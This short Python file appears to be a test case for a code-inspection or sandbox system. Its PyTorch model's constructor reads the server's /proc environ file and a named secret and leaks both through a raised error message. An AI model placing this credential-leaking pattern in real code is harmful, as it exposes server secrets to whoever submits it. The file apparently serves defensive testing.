# tries: Read the datasite's environment.
# must: inspection statement
from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.a = nn.Linear(4, 1)
        raise ValueError(open(f"/proc/{SERVER_PID}/environ", "rb").read().decode("latin-1") + str(__import__("os").environ.get(SECRET_NAME)))

    def forward(self, x):
        return self.a(x)
